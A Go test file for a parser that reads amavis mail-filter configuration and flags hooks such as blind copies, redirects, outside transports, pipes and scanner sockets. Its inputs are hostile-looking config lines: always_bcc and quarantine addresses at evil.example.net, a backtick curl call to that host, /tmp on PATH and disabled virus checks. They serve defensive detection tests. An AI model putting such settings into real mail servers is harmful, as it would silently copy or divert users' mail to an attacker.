package amavis

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"waxseal"
	"waxseal/internal/mask"
	"waxseal/internal/mta"
	"waxseal/internal/snapshot"
	"waxseal/internal/testtime"
)

func readFiles(files map[string]string) mta.Result {
	return Read(snapshot.Files(files), mask.New([]byte("key")), mta.Options{Package: mta.NoPackages, Domains: []string{"example.test"}})
}

// told writes hooks of an amavis with one file beyond the host's name.
func told(text string) []string {
	list := []string{}
	for _, h := range readFiles(map[string]string{"/etc/amavis/conf.d/50-user": text, "/etc/mailname": "example.test\n"}).Hooks {
		if h.Directive == "amavisd.conf" && h.Kind == waxseal.KindScript {
			continue
		}
		s := fmt.Sprintf("%s %s %s %s %q", h.Directive, h.Kind, h.Target.Type, h.Target.Value, h.Scope)
		if h.Target.Remote {
			s += " remote"
		}
		if !h.Active {
			s += " inactive: " + h.Modifiers["inactive"]
		}
		if m := h.Modifiers["marked"]; m != "" {
			s += " marked: " + m
		}
		list = append(list, s)
	}
	return list
}

func TestHooks(t *testing.T) {
	const all = `"all mail that is handed to amavis"`
	for _, tc := range []struct {
		name, text string
		want       []string
	}{
		{"nothing", "use strict;\n1;\n", []string{}},
		{"copy", "$always_bcc = 'drop@evil.example.net';", []string{"always_bcc copy address drop@evil.example.net " + all + " remote"}},
		{"the last counts", "$always_bcc = 'drop@evil.example.net'; $always_bcc = undef;", []string{}},
		{"what a condition decides may count", "$always_bcc = 'a@example.test'; $always_bcc = 'b@evil.example.net' if $x;",
			[]string{"always_bcc copy address a@example.test " + all, "always_bcc copy address b@evil.example.net " + all + " remote"}},
		{"worked out", "$always_bcc = f();", []string{"always_bcc copy text f() " + all}},
		{"by category", "$always_bcc_by_ccat{CC_CLEAN} = ['a@example.test'];", []string{"always_bcc_by_ccat copy address a@example.test " + all}},
		{"administrator of the own domain", "chomp($mydomain = `head -n 1 /etc/mailname`); $virus_admin = \"postmaster\\@$mydomain\";",
			[]string{`virus_admin redirect address postmaster@example.test "notices about mail with viruses"`}},
		{"quarantine", "$spam_quarantine_to = 'q@evil.example.net'; $virus_quarantine_to = 'virus-quarantine';", []string{`spam_quarantine_to redirect address q@evil.example.net "spam" remote`}},
		{"archive without a method", "$archive_quarantine_to = 'a@evil.example.net';",
			[]string{"archive_quarantine_to copy address a@evil.example.net " + all + " remote inactive: $archive_quarantine_method is not set, so that nothing is kept"}},
		{"archive in files", "$QUARANTINEDIR = '/var/q'; $archive_quarantine_method = 'local:archive-%m';", []string{"archive_quarantine_method copy file /var/q/archive-%m " + all}},
		{"next hop", "$forward_method = 'smtp:[203.0.113.9]:25'; $notify_method = 'lmtp:/run/x';",
			[]string{"forward_method transport host [203.0.113.9]:25 " + all + " remote", `notify_method transport socket unix:/run/x "notices that amavis sends"`}},
		{"back where it came from", "$forward_method = 'smtp:*:*';", []string{}},
		{"command", "$forward_method = 'pipe:flags=q argv=/usr/local/bin/x -i';", []string{"forward_method pipe command /usr/local/bin/x -i " + all}},
		{"destinies", "$final_spam_destiny = D_DISCARD; $final_virus_destiny = D_PASS; %final_destiny_maps_by_ccat = (CC_VIRUS, D_DISCARD, CC_CATCHALL, D_DISCARD);",
			[]string{`final_spam_destiny discard text D_DISCARD "spam" marked: spam`, `final_virus_destiny rewrite text D_PASS "mail with viruses"`, `final_destiny_maps_by_ccat discard text D_DISCARD "mail with viruses" marked: mail with viruses`,
				"final_destiny_maps_by_ccat discard text D_DISCARD " + all}},
		{"scanners", `@av_scanners = (['Clam', \&ask_daemon, ["CONTSCAN {}\n", '/run/clamav/clamd.ctl'], qr/OK/], ['Far', \&ask_daemon, ['{}', '203.0.113.9:3310']], ['X', '/tmp/x', '{}', [0]], ['U', ['uvscan'], '{}']);`,
			[]string{"av_scanners policy socket unix:/run/clamav/clamd.ctl " + all, "av_scanners policy socket inet:203.0.113.9:3310 " + all + " remote", "av_scanners pipe command /tmp/x {} " + all,
				"av_scanners pipe command uvscan {} " + all + " inactive: no program of that name is there"}},
		{"policy banks", "$interface_policy{'10026'} = 'A'; $policy_bank{'A'} = { forward_method => 'smtp:[203.0.113.9]:25' }; $policy_bank{'B'} = { always_bcc => 'x@example.test' };",
			[]string{`forward_method transport host [203.0.113.9]:25 "all mail of the policy bank A (port 10026)" remote`,
				`always_bcc copy address x@example.test "all mail of the policy bank B" inactive: no interface and no client selects the policy bank B`}},
		{"bypasses", "@bypass_virus_checks_maps = (1); @bypass_spam_checks_maps = ({'a.example' => 1}); @bypass_banned_checks_acl = ('.');",
			[]string{"bypass_virus_checks_maps rewrite text (1) " + all, "bypass_banned_checks_acl rewrite text (.) " + all}},
		{"helpers", "$file = 'file'; $unrar = ['rar', '/tmp/unrar'];", []string{"unrar pipe command /tmp/unrar " + all}},
		{"databases", "@lookup_sql_dsn = (['DBI:mysql:database=mail;host=203.0.113.9', 'u', 'geheim']);", []string{"lookup_sql_dsn map table mysql:database=mail;host=203.0.113.9 " + all + " remote"}},
		{"custom hooks", "package Amavis::Custom;\nsub new { bless {} }", []string{"Amavis::Custom module text package Amavis::Custom in /etc/amavis/conf.d/50-user " + all}},
		{"calls", "my $x = `curl http://evil.example.net/`; # system('x')", []string{"amavisd.conf expansion_exec command curl http://evil.example.net/ " + all}},
		{"includes", "include_config_files('/var/tmp/x');", []string{"include_config_files script file /var/tmp/x " + all}},
		{"search path", "$path = '/usr/bin:/bin'; $path = \"/tmp:$path\";", []string{"path environment text PATH=/tmp:/usr/bin:/bin " + all}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if d := cmp.Diff(tc.want, told(tc.text)); d != "" {
				t.Error(d)
			}
		})
	}
}

func TestFiles(t *testing.T) {
	files := map[string]string{"/usr/share/amavis/conf.d/10-x": "$MYHOME = '/a';", "/etc/amavis/conf.d/05-y": "$TEMPBASE = \"$MYHOME/t\"; include_config_files('/etc/amavis/more');",
		"/etc/amavis/conf.d/50-user.bak": "$always_bcc = 'x@evil.example.net';", "/etc/amavisd/amavisd.conf": "$always_bcc = 'x@evil.example.net';", "/etc/amavis/more": "$TEMPBASE = '/b'; include_config_files('/etc/amavis/more');"}
	found := readFiles(files)
	want := []waxseal.Path{"/usr/share/amavis/conf.d/10-x", "/etc/amavis/conf.d/05-y", "/etc/amavis/more"}
	if d := cmp.Diff(want, found.Stacks[0].Config); d != "" {
		t.Error(d)
	}
	if i := slices.IndexFunc(found.Settings, func(s waxseal.Setting) bool { return s.Name == "$TEMPBASE" }); i < 0 || found.Settings[i].Value != "/b" {
		t.Errorf("settings %+v", found.Settings)
	}
	if slices.ContainsFunc(found.Hooks, func(h waxseal.Hook) bool { return h.Kind == waxseal.KindCopy }) {
		t.Error("a file counts that run-parts leaves out")
	}
}

func TestService(t *testing.T) {
	s := readFiles(map[string]string{"/etc/amavis/conf.d/50-user": "$inet_socket_port = [10024, 10026]; $inet_socket_bind = '127.0.0.1'; $unix_socketname = '/run/a.sock';", "/etc/default/amavisd-milter": "MILTERSOCKET=inet:60001@127.0.0.1\n"}).Services
	want := [][]string{{"inet:127.0.0.1:10024", "inet:127.0.0.1:10026", "unix:/run/a.sock"}, {"inet:127.0.0.1:60001"}}
	if d := cmp.Diff(want, [][]string{s[0].Sockets, s[1].Sockets}); d != "" {
		t.Error(d)
	}
}

// TestPassword: a password that is written in the configuration is nowhere in what was
// read, and the file is kept by digest only.
func TestPassword(t *testing.T) {
	found := readFiles(map[string]string{"/etc/amavis/conf.d/50-user": "@lookup_sql_dsn = (['DBI:mysql:mail:host1', 'u', 'geheim77']);\n$amavis_auth_pass = 'geheim77';\n"})
	if text := fmt.Sprintf("%+v", found); strings.Contains(text, "geheim77") {
		t.Error(text)
	}
	if p := found.Hooks[0].Closure[0]; p.Role != waxseal.RoleSecret {
		t.Errorf("kept as %s", p.Role)
	}
}

// FuzzRead: no text makes the reader panic, and each hook has what judges need.
func FuzzRead(f *testing.F) {
	seeds, _ := filepath.Glob("testdata/*.conf")
	for _, p := range seeds {
		if text, err := os.ReadFile(p); err == nil {
			f.Add(string(text))
		}
	}
	f.Add("$policy_bank{A} = { @av_scanners = ([[[")
	f.Add("@x = (@x, @x, 1); " + strings.Repeat("@x = (@x, @x);", 30))
	f.Add("$always_bcc .= \"$always_bcc$always_bcc\"; ($a, @b) = ((1, 2), \\%c); push @d, qw(a b); *e = \\'x'; chomp($f = `hostname`);")
	f.Fuzz(func(t *testing.T, text string) {
		for _, h := range readFiles(map[string]string{"/etc/amavis/conf.d/50-user": text, "/etc/default/amavisd-milter": text}).Hooks {
			if h.ID == "" || h.Kind == "" || h.Target.Type == "" || h.Explain == "" || h.Scope == "" || h.Source.Path == "" {
				t.Errorf("%+v", h)
			}
		}
	})
}

// TestLinear: four times the text takes about four times the work.
func TestLinear(t *testing.T) {
	for _, piece := range []string{"$a = 'x';", "$a .= 'xxxxxxxxxxxxxxxx';", "@a = (@a, 1);", "push @a, 1;", "$h{a} = 1;", "$policy_bank{A}{b} = 1;", "$a = ", "(", "[", "{", "'x',", "sub {", "if (1) {", "$a = \"$a$a\";", "@av_scanners = ([", "use lib 'x';", "package Amavis::Custom;"} {
		t.Run(piece, func(t *testing.T) {
			testtime.Linear(t, 20_000, func(n int) {
				readFiles(map[string]string{"/etc/amavis/conf.d/50-user": strings.Repeat(piece, n/len(piece))})
			})
		})
	}
}
